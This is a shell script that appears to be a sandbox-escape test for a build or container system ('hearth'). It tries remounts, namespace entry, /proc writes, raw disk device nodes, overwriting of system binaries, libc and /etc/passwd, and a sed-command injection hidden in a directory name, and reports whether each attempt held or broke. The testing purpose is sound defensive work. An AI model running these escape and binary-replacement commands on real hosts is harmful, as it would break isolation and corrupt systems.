seed=/var/lib/hearth/volumes/trusted
view=/var/lib/hearth/view
own=/var/lib/hearth/volumes/own
parent=$PPID
attempt() { # NAME COMMAND: what it tries is to leave a file called evil
  name=$1
  shift
  sh -c "$*" >/dev/null 2>&1
  if [ -n "$(find $seed -name evil 2>/dev/null | head -n 1)" ]; then echo "BROKEN: $name"; else echo "HELD: $name"; fi
}
mkdir -p /tmp/a /tmp/b /tmp/up /tmp/work /tmp/tools
# What the shell outside may be brought to run: there the mount can be made writable.
evil=/tmp/tools/evil
printf '#!/bin/sh\nmount -o remount,rw,bind %s && echo >%s/evil\n' $seed $seed >$evil
chmod 755 $evil
tools="sh dash bash mount umount find xargs sort sed awk du stat cut cat head tail grep mv cp rm ln ls mkdir mkfifo sleep readlink kill flock timeout seq unshare buildctl"
for tool in $tools; do cp $evil /tmp/tools/$tool; done
attempt "plain write" "echo >$seed/evil; echo >>$seed/generations/1/chain; rm -rf $seed/layers"
attempt "remount" "mount -o remount,rw,bind $seed && echo >$seed/evil"
attempt "remount without bind" "mount -o remount,rw $seed && echo >$seed/evil"
attempt "bind elsewhere" "mount --bind $seed /tmp/a && mount -o remount,rw,bind /tmp/a && echo >/tmp/a/evil"
attempt "all mounts elsewhere" "mount --rbind / /tmp/b && mount -o remount,rw,bind /tmp/b$seed && echo >/tmp/b$seed/evil"
attempt "unmount" "umount -l $seed; echo >$seed/evil; true"
attempt "overlay that writes there" "mount -t overlay overlay -o userxattr,lowerdir=/tmp/up,upperdir=$seed/layers,workdir=$seed/generations /tmp/a && echo >/tmp/a/evil"
attempt "one more user namespace" "unshare -U -r -m sh -c 'mount -o remount,rw,bind $seed && echo >$seed/evil'"
attempt "namespaces of the parent" "nsenter -t $parent -U -m sh -c 'mount -o remount,rw,bind $seed && echo >$seed/evil'"
attempt "mounts of the first process" "nsenter -t 1 -m sh -c 'mount -o remount,rw,bind $seed && echo >$seed/evil'"
attempt "root of the parent" "echo >/proc/$parent/root$seed/evil"
attempt "memory of the parent" "exec 3<>/proc/$parent/mem && echo >/tmp/written-to-memory"
[ ! -e /tmp/written-to-memory ] || echo "BROKEN: memory of the parent"
attempt "disk of the node" "for n in 8:0 253:0 254:0 259:0; do mknod /tmp/disk b \${n%:*} \${n#*:} && mount /tmp/disk /tmp/a && touch /tmp/a/evil; rm -f /tmp/disk; done"
attempt "view" "find $view -name tool -exec sh -c 'echo evil >\"\$0\"; touch \"\${0%/*}/evil\"' {} \;"
[ -n "$(find $view -name evil | head -n 1)" ] && echo "HELD: its own view can be written, as it should"

# The shell outside is the same user of the kernel. What it runs later shows in the files at the end.
replace='for tool in '$tools'; do file=$(readlink -f "$(command -v $tool)"); cp '$evil' "$file.new" && mv "$file.new" "$file"; cp '$evil' "$file"; done'
attempt "programs of the shell outside" "$replace"
attempt "programs, once the root is remounted" "mount -o remount,rw,bind /; mount -o remount,rw /; $replace"
attempt "programs, in another mount of the root" "mount --bind / /tmp/b && mount -o remount,rw,bind /tmp/b; for tool in $tools; do cp $evil /tmp/b/usr/bin/\$tool; done"
attempt "programs below the parent's root" "for tool in $tools; do cp $evil /proc/$parent/root/usr/bin/\$tool; cp $evil /proc/1/root/usr/bin/\$tool; done"
attempt "mounts over the programs" "for tool in timeout awk sort; do mount --bind $evil \$(readlink -f \$(command -v \$tool)); done"
attempt "libraries and settings of programs" "for file in /etc/ld.so.preload /etc/ld.so.cache /etc/ld.so.conf /etc/profile /root/.profile /etc/passwd /lib/*/libc.so.6 /lib64/ld-*; do echo $evil >\$file; rm -f \$file; done"
attempt "folders of programs" "for folder in \$(echo \$PATH | tr : ' ') /etc /lib /usr/lib /usr/local/lib; do touch \$folder/evil && cp \$folder/evil $seed; done"
attempt "what the parent has open" "for file in /proc/$parent/fd/* /proc/$parent/cwd /proc/$parent/exe; do echo >\$file; echo >\$file$seed/evil; done"
attempt "mounts of a file that was inherited" "for file in /proc/self/fd/*; do echo >\$file/../trusted/evil; echo >\$file/../../trusted/evil; done"
attempt "names and numbers that the shell outside reads" "
  echo 'PATH=/tmp/tools:' >/run/buildkit/begun; mkdir -p '$own/layers/PATH=7-1' '$own/7' && cp /tmp/tools/* '$own/7' && echo PATH=7 >'$own/layers/PATH=7-1/kib'
  number='1,;e sh $evil;#'; mkdir -p \"$own/layers/\$number/snapshots/1\" $own/root/runc-overlayfs/snapshots/snapshots; echo \"\$number\" >$own/sealing"
attempt "pipes to the shell outside" "for n in 1 2 3; do echo \"\\\$($evil)\" >/tmp/said & echo '\$($evil)' >/tmp/asked; done"
attempt "devices of the shell outside" "rm -f /dev/null /dev/shm/*; echo '. $evil' >/dev/null; cp $evil /dev/shm"
kill -TERM $parent # so that it goes on to its report, while some of this is still running
(sleep 3; cp $evil "$(command -v sleep)") &
